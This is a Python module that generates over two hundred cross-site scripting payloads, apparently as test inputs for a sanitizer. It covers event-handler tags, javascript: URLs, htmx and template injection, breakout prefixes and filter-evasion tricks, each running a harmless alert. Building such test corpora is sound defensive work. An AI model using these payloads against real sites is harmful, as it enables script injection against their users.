"""Texts that run a script where a page shows them as markup."""

from collections.abc import Iterator

MARK = "alert('desk')"
"""What each of them would run."""
_EVENTS = {
    "img src=x": ("onerror", "onload"),
    "svg": ("onload", "onfocus autofocus tabindex=1"),
    "body": ("onload", "onpageshow", "onhashchange"),
    "input autofocus": ("onfocus", "onblur"),
    "details open": ("ontoggle",),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror",),
    "iframe": ("onload",),
    "object data=x": ("onerror",),
    "marquee": ("onstart", "onfinish"),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "style": ("onload",),
    "link rel=stylesheet href=x": ("onerror",),
    "a href=x autofocus": ("onfocus",),
    "div style=animation-name:x": ("onanimationstart", "onanimationend"),
}
_WHOLE = (
    "<script>{}</script>",
    "<SCRIPT/x>{}</SCRIPT>",
    "<svg><script>{}</script></svg>",
    "<math><mtext></mtext><script>{}</script></math>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">a</a>',
    '<a href="JaVaScRiPt&colon;{}">a</a>',
    '<a href="java\tscript:{}">a</a>',
    '<form action="javascript:{}"><button>a</button></form>',
    '<button formaction="javascript:{}">a</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
    '<base href="javascript:{}//">',
    '<object data="data:text/html,<script>{}</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload={}>">',
    '<svg><a xlink:href="javascript:{}"><text>a</text></a></svg>',
    '<svg><animate onbegin="{}" attributeName=x></svg>',
    '<svg><set attributeName="onmouseover" to="{}"></svg>',
    '<noscript><p title="</noscript><img src=x onerror={}>"></noscript>',
    "<template><script>{}</script></template>",
    '<div hx-get="/desk/" hx-on::load="{}">a</div>',
    '<div hx-on:htmx:load="{}" hx-trigger="load">a</div>',
    "<div data-hx-vals='js:x={}' data-hx-get=/desk/ data-hx-trigger=load>a</div>",
    "{{{{ {} }}}}{{% if x %}}",
    "${{{}}}",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    '<xmp><p title="</xmp><img src=x onerror={}>">',
    "<style>@import 'javascript:{}';</style>",
    '<link rel=import href="data:text/html,<script>{}</script>">',
)
_OUT_OF = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</pre>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</summary>",
    "-->",
    "]]>",
    "`",
    "*/",
    '\\"',
    "%>",
)


def hostile_texts() -> Iterator[str]:
    """More than two hundred: elements with events, whole elements, and ways out of an attribute or element."""
    for element, events in _EVENTS.items():
        for event in events:
            name, _, rest = event.partition(" ")
            yield f"<{element} {rest} {name}={MARK}>"
            yield f'<{element} {rest} {name}="{MARK}"//'
    for whole in _WHOLE:
        yield whole.format(MARK)
    for out in _OUT_OF:
        yield f"{out}<script>{MARK}</script>"
        yield f"{out}<img src=x onerror={MARK}>"
        yield f"{out}<svg/onload={MARK}>"
        yield f"{out} autofocus onfocus={MARK} x="
        yield f"{out} onmouseover={MARK} style=position:fixed;inset:0 x="
        yield f"&lt;/pre&gt;{out}&#60;script&#62;{MARK}&#60;/script&#62;"
        yield f"{out}\x00<script\x0c>{MARK}</script\x0b>"
        yield f"{out}<scr<script>ipt>{MARK}</scr</script>ipt>"
        yield f"{out}＜script＞{MARK}＜/script＞"
        yield f"{out}<ſcript>{MARK}</ſcript>"
